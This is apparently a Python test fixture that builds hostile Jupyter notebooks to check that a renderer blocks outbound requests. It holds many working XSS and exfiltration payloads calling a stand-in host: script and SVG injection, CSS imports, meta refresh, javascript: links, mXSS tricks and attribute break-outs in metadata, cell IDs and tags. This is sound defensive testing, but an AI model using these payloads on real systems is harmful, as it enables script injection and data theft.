"""Notebooks that try to speak to somebody else, each by another way."""

from typing import Any

from tests.runner.results.notebooks import (
    code,
    error,
    html,
    markdown,
    notebook,
    png,
    shown,
    stream,
)

WIDGET = "application/vnd.jupyter.widget-view+json"
STATE = "application/vnd.jupyter.widget-state+json"


def script(evil: str, name: str) -> str:
    """Return markup that calls `evil`/`name` in the plainest way there is."""
    return f"<script>fetch('{evil}/{name}')</script><img src='{evil}/{name}-img'>"


def _break_out(evil: str, name: str) -> str:
    return f'"></pre></div></main>{script(evil, name)}'


def payloads(evil: str) -> dict[str, dict[str, Any]]:
    """Return every hostile notebook by name; each calls `evil` if it can."""
    return {**_outputs(evil), **_markup(evil), **_places(evil)}


def _outputs(evil: str) -> dict[str, dict[str, Any]]:
    """Hostile through the form of the output."""
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"'
        f" width='9' height='9' onload=\"fetch('{evil}/svg-load')\">"
        f"<script>fetch('{evil}/svg')</script><image x:href='{evil}/svg-image'/>"
        f"<style>@import url({evil}/svg-import);</style>"
        f"<foreignObject><iframe src='{evil}/svg-frame'/></foreignObject></svg>"
    )
    metadata = {
        "image/png": {
            "width": f"1 onload=fetch('{evil}/png-width')",
            "height": f"{_break_out(evil, 'png-height')}",
            "alt": _break_out(evil, "png-alt"),
            "unconfined": f"true' style='background:url({evil}/png-unconfined)",
        },
        "filename": f"../../{_break_out(evil, 'png-filename')}",
    }
    return {
        "html": notebook(code(html(script(evil, "html")))),
        "svg": notebook(code(shown({"image/svg+xml": svg}))),
        "svg in html": notebook(code(html(svg))),
        "javascript": notebook(
            code(shown({"application/javascript": f"fetch('{evil}/js')"}))
        ),
        "markdown output": notebook(
            code(shown({"text/markdown": f"![x]({evil}/md) {script(evil, 'md2')}"}))
        ),
        "latex": notebook(
            code(
                shown(
                    {"text/latex": f"$\\href{{{evil}/tex}}{{x}}$ {script(evil, 'tex')}"}
                )
            )
        ),
        "png metadata width": notebook(code(shown({"image/png": png()}, metadata))),
        "png text chunk": notebook(
            code(shown({"image/png": png(comment=script(evil, "png-chunk"))}))
        ),
        "png that is markup": notebook(
            code(shown({"image/png": _break_out(evil, "png-data")}))
        ),
        "stream": notebook(
            code(stream(f"\x1b[31m{_break_out(evil, 'stream')}\x1b[0m"))
        ),
        "stream link": notebook(
            code(stream(f"\x1b]8;;{evil}/osc\x07click\x1b]8;;\x07\x1b[1;31;{evil}mx"))
        ),
        "messages": notebook(code(stream(_break_out(evil, "stderr"), "stderr"))),
        "traceback": notebook(code(error(_break_out(evil, "traceback")))),
        "plain text": notebook(code(shown({"text/plain": _break_out(evil, "plain")}))),
        "widget": notebook(
            code(shown({WIDGET: {"model_id": _break_out(evil, "widget")}})),
            metadata={"widgets": {STATE: {"state": {"a": _break_out(evil, "state")}}}},
        ),
        "mermaid": notebook(
            code(shown({"text/vnd.mermaid": f'graph; click a "{evil}/mermaid"'})),
            markdown(f"```mermaid\n{_break_out(evil, 'mermaid2')}\n```"),
        ),
        "plotly": notebook(
            code(
                shown({"application/vnd.plotly.v1+json": {"data": [script(evil, "p")]}})
            )
        ),
    }


def _markup(evil: str) -> dict[str, dict[str, Any]]:
    """Hostile through HTML that needs no script."""
    sources = {
        "meta refresh": f'<meta http-equiv="refresh" content="0;url={evil}/refresh">',
        "style url": f'<p style="background:url({evil}/css);color:red">x</p>',
        "style escape": f'<p style="b\\61 ckground-image:\\75rl({evil}/css2)">x</p>',
        "style element": f"<style>@import '{evil}/css3'; *{{background:url({evil}/css4)}}</style>",
        "form": f'<form action="{evil}/form"><button>Go</button><input name=a autofocus></form>',
        "form action": f'<button formaction="{evil}/formaction" form=x>Go</button>',
        "base": f'<base href="{evil}/"><img src="base"><a href="base-link">x</a>',
        "object": f'<object data="{evil}/object"></object><embed src="{evil}/embed">',
        "iframe": f'<iframe src="{evil}/iframe"></iframe>',
        "iframe srcdoc": f"<iframe srcdoc=\"<script>fetch('{evil}/srcdoc')</script>\"></iframe>",
        "event handlers": f"<b onmouseover=\"fetch('{evil}/on')\" onfocus=\"fetch('{evil}/focus')\""
        f" tabindex=0 autofocus>x</b><details open ontoggle=\"fetch('{evil}/toggle')\">x</details>",
        "javascript link": f"<a href=\"javascript:fetch('{evil}/jslink')\">click</a>",
        "data link": f'<a href="data:text/html,{script(evil, "datalink")}">click</a>',
        "ping": f'<a href="#" ping="{evil}/ping">click</a>',
        "plain link": f'<a href="{evil}/link?mrn=17">click</a>',
        "prefetch": f'<link rel="prefetch" href="{evil}/prefetch"><link rel="dns-prefetch" href="{evil}">'
        f'<link rel="preconnect" href="{evil}"><link rel="stylesheet" href="{evil}/sheet">',
        "video": f'<video poster="{evil}/poster" src="{evil}/video" autoplay></video>'
        f'<audio src="{evil}/audio" autoplay></audio>',
        "picture": f'<picture><source srcset="{evil}/source"><img srcset="{evil}/srcset 1x" src=x></picture>',
        "old attributes": f'<table background="{evil}/table"><tr><td background="{evil}/td">x</td></tr></table>'
        f'<input type=image src="{evil}/input"><body background="{evil}/body">',
        "namespaces": f"<math><mtext><table><mglyph><style><img src=x onerror=\"fetch('{evil}/mxss')\">",
        "comment": f"<!--><img src={evil}/comment>--><![CDATA[<img src={evil}/cdata>]]>",
        "noscript": f'<noscript><p title="</noscript><img src={evil}/noscript>">',
        "template": f"<template><img src={evil}/template></template><portal src={evil}/portal>",
        "svg use": f'<img src="data:image/svg+xml;base64,PHN2Zy8+"><svg><use href="{evil}/use#a"/></svg>',
        "import map": f'<script type="speculationrules">{{"prefetch":[{{"urls":["{evil}/spec"]}}]}}</script>',
    }
    return {name: notebook(code(html(source))) for name, source in sources.items()}


def _places(evil: str) -> dict[str, dict[str, Any]]:
    """Hostile through where it stands in the notebook."""
    picture = f"![a](attachment:a.png) {script(evil, 'attachment')}"
    return {
        "markdown cell": notebook(
            markdown(
                f"# x {script(evil, 'cell')}\n[a](javascript:fetch('{evil}/mdlink'))"
                f" ![a]({evil}/mdimage) <{evil}/auto>\n\n[r]: {evil}/ref\n[r]"
            )
        ),
        "title": notebook(metadata={"title": f"</title>{script(evil, 'title')}"}),
        "tags": notebook(
            code(stream("x"), metadata={"tags": [_break_out(evil, "tags")]}),
            markdown("x", metadata={"tags": [_break_out(evil, "mdtags")]}),
        ),
        "cell id": notebook(code(stream("x"), id=_break_out(evil, "id"))),
        "raw cell": notebook(
            {
                "cell_type": "raw",
                "id": "r",
                "metadata": {"raw_mimetype": "text/html", "format": "text/html"},
                "source": script(evil, "raw"),
            }
        ),
        "attachments": notebook(
            markdown(
                picture, attachments={"a.png": {"text/html": script(evil, "att")}}
            ),
            markdown(
                picture, attachments={"a.png": {"image/png": _break_out(evil, "a")}}
            ),
        ),
        "language": notebook(
            code(stream("x")),
            metadata={
                "language_info": {"name": _break_out(evil, "language")},
                "kernelspec": {"name": "x", "display_name": _break_out(evil, "kernel")},
            },
        ),
        "unknown cell": notebook(
            {"cell_type": _break_out(evil, "type"), "source": "x"}
        ),
        "output keys": notebook(code(shown({_break_out(evil, "mime"): "x"}))),
    }
